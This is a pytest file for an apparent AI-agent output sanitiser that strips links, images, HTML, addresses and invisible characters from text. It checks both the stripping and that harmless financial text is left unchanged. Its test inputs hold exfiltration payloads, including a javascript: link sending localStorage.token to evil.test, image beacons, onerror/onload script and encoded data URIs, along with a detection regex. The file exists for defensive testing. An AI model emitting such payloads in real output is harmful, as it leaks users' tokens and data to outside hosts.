"""What is taken out of a sentence: images, links to anywhere but the library, addresses, HTML and unseen characters."""

import re

import pytest

from agent.gate.clean import clean

ALLOWED = frozenset({"library://lesson/beta"})
OUT = re.compile(r"evil|https?:|//|javascript:|data:text|mailto|!\[|\]\(|\]:|<[a-z!]|@", re.IGNORECASE)


@pytest.mark.parametrize(
    "text",
    [
        "See [this](https://evil.test/?q=1).",
        'See [this](https://evil.test/?q=1 "title").',
        "See [th[i]s](https://evil.test).",
        "See [this](javascript:fetch('https://evil.test/'+localStorage.token)).",
        "See [this](//evil.test/a).",
        "See [this](/\\evil.test/a).",
        "![x](https://evil.test/p.png?v=1)",
        "![x][src]",
        "![x]",
        "[![x](https://evil.test/a.png)](https://evil.test)",
        "See [this][src].",
        "See [this][].",
        "[src]: https://evil.test/a?b=1",
        "[1]: http://evil.test",
        "  [1]:",
        "[^1]: https://evil.test",
        "Go to <https://evil.test>.",
        "Go to <mailto:a@evil.test>.",
        "Write to a@evil.test.",
        "Go to https://evil.test/login now.",
        "Go to HTTPS://EVIL.TEST/login now.",
        "Go to ftp://evil.test now.",
        "Go to www.evil.test now.",
        "Go to evil.com/login now.",
        "Go to EVIL.COM/login now.",
        "Go to collect.evil.test now.",
        "Go to data:text/html;base64,PHNjcmlwdD4= now.",
        "<img src=x onerror=\"fetch('https://evil.test')\">",
        "<img src=https://evil.test/a.gif",
        "<svg/onload=alert(1)>",
        "<!-- evil -->",
        "ht<b></b>tps://evil.test",
        "!<i></i>[x](https://evil.test/p)",
        "[x]<b></b>(https://evil.test/p)",
        "h\u200bttps://evil.test",
        "[a](\nhttps://evil.test)",
        "[beta](library://lesson/../../evil)",
        "[beta](library://lesson/evil)",
        "![beta](library://lesson/beta)",
        "[![x](https://evil.test/a)](library://lesson/beta)",
        "library://lesson/beta",
    ],
)
def test_nothing_that_can_be_fetched_is_left(text: str) -> None:
    assert not OUT.search(clean(text, ALLOWED)), clean(text, ALLOWED)


@pytest.mark.parametrize(
    "text",
    [
        "Beta says how a portfolio moves [1][2].",
        "It rests on two lessons [1] [2].",
        "The ratio was 1.2, e.g. over 3 years, i.e. p.a. (5.2 %).",
        "RELIANCE.NS, SAP.DE and BRK.B closed at 2,450.50.",
        "| Apple (AAPL) | $1,234.50 | -2.5 % |",
        "The price/earnings ratio is < 12 and > 3.",
        "Note: the data: all of 2022.",
        "See [the lesson on beta](library://lesson/beta).",
        "- [x] done, see *this* and `that`.",
    ],
)
def test_what_harms_nobody_stays(text: str) -> None:
    assert clean(text, ALLOWED) == text


def test_without_an_allow_list_a_link_is_its_words() -> None:
    assert clean("See [the lesson](library://lesson/beta).") == "See the lesson."


def test_a_lesson_that_was_not_read_is_not_linked() -> None:
    assert clean("See [alpha](library://lesson/alpha).", ALLOWED) == "See alpha."
